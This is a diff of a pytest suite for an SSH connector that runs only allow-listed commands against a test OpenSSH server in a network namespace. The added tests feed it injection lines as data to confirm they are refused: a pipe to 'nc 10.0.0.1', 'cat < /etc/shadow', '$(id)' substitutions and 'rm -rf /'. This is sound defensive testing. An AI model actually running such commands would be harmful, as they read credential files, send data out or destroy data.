@@ -1,19 +1,16 @@
 """The ssh connector against a real OpenSSH server in a network namespace.
 
 sshd runs in the lab's firewall namespace with its own host key, config and authorized key
-(all in a temporary folder); the connector runs in the client namespace (through the SDK's
-harness, in a child process) and reaches it over the veth pair: a real SSH session, a real
-shell, real commands. Nothing listens in the host's own namespace.
+(all in a temporary folder: the ``sshd`` fixture of tests/connectors/conftest.py); the
+connector runs in the client namespace (through the SDK's harness, in a child process) and
+reaches it over the veth pair: a real SSH session, a real shell, real commands. Nothing
+listens in the host's own namespace.
 """
 
 from __future__ import annotations
 
+import asyncio
 import json
-import os
-import subprocess
-import sys
-import time
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
@@ -21,82 +18,9 @@ import asyncssh
 import pytest
 
 from tests.connectors.netlab import Lab
-from tests.fixtures.requirements import REPO_ROOT, requirement
-
-SSHD = Path("/usr/sbin/sshd")
-
-
-@requirement("sshd")
-def _sshd() -> str | None:
-    if not SSHD.exists():
-        return "OpenSSH server is not installed (apt-get install openssh-server)"
-    return None
-
+from tests.connectors.ssh_call import call_in_client
 
 pytestmark = [pytest.mark.requires("nftables"), pytest.mark.requires("sshd")]
-
-
-def _key_pair(folder: Path, name: str) -> tuple[str, str]:
-    key = asyncssh.generate_private_key("ssh-ed25519")
-    private = folder / name
-    private.write_bytes(key.export_private_key())
-    private.chmod(0o600)
-    return key.export_private_key().decode(), key.export_public_key().decode().strip()
-
-
-def _wait_listening(lab: Lab, port: int) -> None:
-    for _ in range(100):  # bounded: about 10 s
-        probe = subprocess.run(
-            ["ip", "netns", "exec", lab.firewall, "ss", "-ltn", f"sport = :{port}"],
-            capture_output=True, text=True, timeout=10, check=False,
-        )  # fmt: skip
-        if f":{port}" in probe.stdout:
-            return
-        time.sleep(0.1)
-    pytest.fail("sshd did not start in the firewall namespace")
-
-
-@pytest.fixture(scope="module")
-def sshd(lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
-    folder = tmp_path_factory.mktemp("sshd")
-    folder.chmod(0o755)
-    _host_private, host_public = _key_pair(folder, "host_key")
-    client_private, client_public = _key_pair(folder, "client_key")
-    (folder / "authorized_keys").write_text(client_public + "\n")
-    (folder / "authorized_keys").chmod(0o600)
-    (folder / "evidence.txt").write_text("line one\nline two\n")
-    port = 2222
-    config = folder / "sshd_config"
-    config.write_text(
-        f"Port {port}\nListenAddress 0.0.0.0\nHostKey {folder / 'host_key'}\n"
-        f"PidFile {folder / 'sshd.pid'}\nAuthorizedKeysFile {folder / 'authorized_keys'}\n"
-        "PasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM no\n"
-        "PermitRootLogin prohibit-password\nStrictModes no\nPrintMotd no\n"
-        "Subsystem sftp internal-sftp\n"
-    )
-    Path("/run/sshd").mkdir(exist_ok=True)  # sshd's privilege separation folder
-    process = subprocess.Popen(
-        ["ip", "netns", "exec", lab.firewall, str(SSHD), "-D", "-e", "-f", str(config)],
-        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
-    )  # fmt: skip
-    try:
-        _wait_listening(lab, port)
-        yield {
-            "folder": folder,
-            "port": port,
-            "client_key": client_private,
-            "known_hosts": f"[{lab.fw_v4}]:{port} {host_public}",
-            "host": lab.fw_v4,
-        }
-    finally:
-        process.terminate()
-        try:
-            process.wait(10)
-        except subprocess.TimeoutExpired:
-            process.kill()
-            process.wait()
-        if process.stderr is not None:
-            process.stderr.close()
 
 
 def _config(sshd: dict[str, Any], **changes: Any) -> dict[str, Any]:
@@ -117,14 +41,7 @@ def _config(sshd: dict[str, Any], **changes: Any) -> dict[str, Any]:
 
 def _call(lab: Lab, request: dict[str, Any]) -> dict[str, Any]:
     """Run the connector in the client namespace; its JSON answer."""
-    env = {**os.environ, "PYTHONPATH": str(REPO_ROOT)}
-    done = subprocess.run(
-        ["ip", "netns", "exec", lab.client, sys.executable, "-m", "tests.connectors.ssh_call",
-         json.dumps(request)],
-        capture_output=True, text=True, timeout=60, env=env, cwd=REPO_ROOT, check=False,
-    )  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    return dict(json.loads(done.stdout.strip().splitlines()[-1]))
+    return call_in_client(lab, request)
 
 
 def _run(lab: Lab, sshd: dict[str, Any], command: str, args: dict[str, str] | None = None,
@@ -220,3 +137,190 @@ def test_the_allow_list_is_checked_when_configured() -> None:
         SshConfig.model_validate(
             {**base, "known_hosts": hosts, "commands": {"Bad Name": {"argv": ["who"]}}}
         )
+
+
+# --- run_line: a CACAO ssh command line, run only as an allowed command it matches ----------
+
+_LINE_COMMANDS: dict[str, Any] = {
+    "list": {"argv": ["ls", "{flags}", "{dir}"], "params": {"flags": "-[la]{1,2}", "dir": "/tmp"}},
+    "touch": {"argv": ["touch", "{path}"], "params": {"path": r"/tmp/[A-Za-z0-9._/-]+"}},
+    "echo": {"argv": ["echo", "{text}"], "params": {"text": r".{1,100}"}},
+    "backup": {"argv": ["cp", "{path}", "{path}.bak"], "params": {"path": r"/tmp/[a-z]+"}},
+    "mark": {"argv": ["mark", "{word}:{word}"], "params": {"word": "[a-z]+"}},
+    "show": {"argv": ["cat", "--number", "--file={path}"], "params": {"path": r"/[a-z/]+"}},
+    "echo-word": {"argv": ["echo", "{word}"], "params": {"word": "[a-z]+"}},
+}
+
+
+def _offline(**changes: Any) -> dict[str, Any]:
+    """A config whose host is never reached: a port nothing listens on."""
+    key = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode().strip()
+    return {
+        "host": "127.0.0.1",
+        "port": 9,
+        "username": "root",
+        "known_hosts": f"[127.0.0.1]:9 {key}",
+        "commands": _LINE_COMMANDS,
+        **changes,
+    }
+
+
+def _line(line: str, *, dry_run: bool = False) -> dict[str, Any]:
+    """run_line in this process, against a host that is never reached: what the line
+    resolves to (dry run), or the error it is refused with."""
+    from quell.connectors.ssh import Ssh
+    from quell.sdk import ActionError
+    from quell.sdk.testing import Harness
+
+    async def scenario() -> dict[str, Any]:
+        async with Harness(Ssh, config=_offline(), secrets={"password": "p"}) as harness:
+            try:
+                output = await harness.call("run_line", {"line": line}, dry_run=dry_run)
+            except ActionError as exc:
+                return {"ok": False, "error": exc.to_dict()}
+        return {"ok": True, "output": output}
+
+    return asyncio.run(scenario())
+
+
+def test_a_line_runs_as_the_allowed_command_its_words_match(
+    lab: Lab, sshd: dict[str, Any], tmp_path: Path
+) -> None:
+    def run_line(line: str) -> dict[str, Any]:
+        return _call(
+            lab,
+            {"config": _config(sshd, commands=_LINE_COMMANDS),
+             "secrets": {"private_key": sshd["client_key"]},
+             "action": "run_line", "input": {"line": line}},
+        )  # fmt: skip
+
+    (Path("/tmp") / f"quell-line-{tmp_path.name}").write_text("x")
+    listed = run_line("ls -la /tmp")
+    assert listed["ok"], listed
+    assert listed["output"]["command"] == "list"
+    assert listed["output"]["argv"] == ["ls", "-la", "/tmp"]
+    assert listed["output"]["exit_status"] == 0
+    assert f"quell-line-{tmp_path.name}" in listed["output"]["stdout"]
+    (Path("/tmp") / f"quell-line-{tmp_path.name}").unlink()
+    # sshd runs in another network namespace, on the same filesystem: the file is there.
+    target = tmp_path / "file1"
+    touched = run_line(f"touch {target}")
+    assert touched["ok"], touched
+    assert touched["output"]["command"] == "touch"
+    assert target.exists()
+    # Quoted shell syntax is text of one argument, printed, never run.
+    pwned = tmp_path / "pwned"
+    echoed = run_line(f"echo 'x; touch {pwned}'")
+    assert echoed["output"]["stdout"] == f"x; touch {pwned}\n"
+    assert not pwned.exists()
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "ls -la /tmp; id",
+        "ls -la /tmp|nc 10.0.0.1 9",
+        "ls -la /tmp && id",
+        "ls -la /tmp &",
+        "echo $(id)",
+        'echo "$(id)"',
+        "echo `id`",
+        'echo "`id`"',
+        "echo hi > /tmp/x",
+        "echo hi >>/tmp/x",
+        "cat < /etc/shadow",
+        "echo $HOME",
+        "echo ${HOME}",
+        "ls -la /tmp\nid",
+        "touch /tmp/*",
+        "echo ~",
+    ],
+)
+def test_a_line_with_shell_syntax_is_refused_before_connecting(line: str) -> None:
+    refused = _line(line)
+    assert refused["ok"] is False
+    assert refused["error"]["code"] == "command_not_allowed"
+    assert "shell syntax" in refused["error"]["message"]
+
+
+def test_a_line_that_is_no_allowed_command_is_refused() -> None:
+    unknown = _line("rm -rf /")
+    assert unknown["error"]["code"] == "command_not_allowed"
+    message = unknown["error"]["message"]
+    assert "the first 'rm'" in message
+    assert "allowed: backup, echo, echo-word, list, mark, show, touch" in message
+    wrong_arity = _line("ls -la /tmp /etc")
+    assert wrong_arity["error"]["code"] == "command_not_allowed"
+    wrong_value = _line("ls -la /etc")
+    assert wrong_value["error"]["code"] == "command_not_allowed"
+    partial = _line("ls -lax /tmp")  # a part matches in full or not at all
+    assert partial["error"]["code"] == "command_not_allowed"
+    unbalanced = _line("echo 'open")
+    assert unbalanced["error"]["code"] == "command_not_allowed"
+    assert "does not split" in unbalanced["error"]["message"]
+    long_line = _line("frobnicate " + "x" * 3000)
+    assert long_line["error"]["code"] == "command_not_allowed"
+    assert len(long_line["error"]["message"]) < 300
+    assert "x" * 100 not in long_line["error"]["message"]
+
+
+def test_quoting_makes_one_word_which_its_pattern_still_checks() -> None:
+    spaced = _line("touch '/tmp/a b'", dry_run=True)
+    assert spaced["error"]["code"] == "command_not_allowed"  # the pattern forbids spaces
+    quoted = _line("touch '/tmp/ab'", dry_run=True)
+    assert quoted["output"]["argv"] == ["touch", "/tmp/ab"]
+    escaped = _line(r"echo a\;b", dry_run=True)  # an escaped ; is text
+    assert escaped["output"]["argv"] == ["echo", "a;b"]
+    one_word = _line('echo "two words"', dry_run=True)
+    assert one_word["output"]["argv"] == ["echo", "two words"]
+
+
+def test_a_placeholder_used_twice_must_have_one_value() -> None:
+    same = _line("cp /tmp/abc /tmp/abc.bak", dry_run=True)
+    assert same["output"]["command"] == "backup"
+    assert same["output"]["argv"] == ["cp", "/tmp/abc", "/tmp/abc.bak"]
+    differ = _line("cp /tmp/abc /tmp/xyz.bak", dry_run=True)
+    assert differ["error"]["code"] == "command_not_allowed"
+    assert _line("mark ab:ab", dry_run=True)["output"]["argv"] == ["mark", "ab:ab"]
+    assert _line("mark ab:cd", dry_run=True)["error"]["code"] == "command_not_allowed"
+    # Literal text around a placeholder must be there exactly.
+    shown = _line("cat --number --file=/etc/hostname", dry_run=True)
+    assert shown["output"]["argv"] == ["cat", "--number", "--file=/etc/hostname"]
+    assert _line("cat --number --fil=/etc/x", dry_run=True)["ok"] is False
+
+
+def test_a_dry_run_line_resolves_without_connecting_and_the_first_match_wins() -> None:
+    pretend = _line("echo hello", dry_run=True)  # the host is never reached
+    assert pretend["ok"], pretend
+    assert pretend["output"]["simulated"] is True
+    assert pretend["output"]["command"] == "echo"  # "echo-word" matches too, but comes later
+    assert pretend["output"]["argv"] == ["echo", "hello"]
+    assert pretend["output"]["exit_status"] is None
+
+
+@pytest.mark.parametrize(
+    ("line", "syntax"),
+    [
+        ("ls -la /tmp", None),
+        ("echo 'a;b|c>d$(e)`f`'", None),
+        (r"echo a\;b\|c", None),
+        ('echo "a;b|c>d"', None),
+        ("echo a#b a~b", None),
+        (r"find /tmp -name x -exec rm {} \;", None),
+        ("echo '$HOME'", None),
+        ('echo "a\\$b"', "escaped"),
+        ("echo #comment", "comment"),
+        ("echo a\\\nb", "continued"),
+        ("echo (x)", "operator"),
+        ("echo a\0b", "NUL"),
+    ],
+)
+def test_shell_syntax_is_found_outside_single_quotes_only(line: str, syntax: str | None) -> None:
+    from quell.connectors.ssh import shell_syntax
+
+    found = shell_syntax(line)
+    if syntax is None:
+        assert found is None
+    else:
+        assert found is not None
+        assert syntax in found
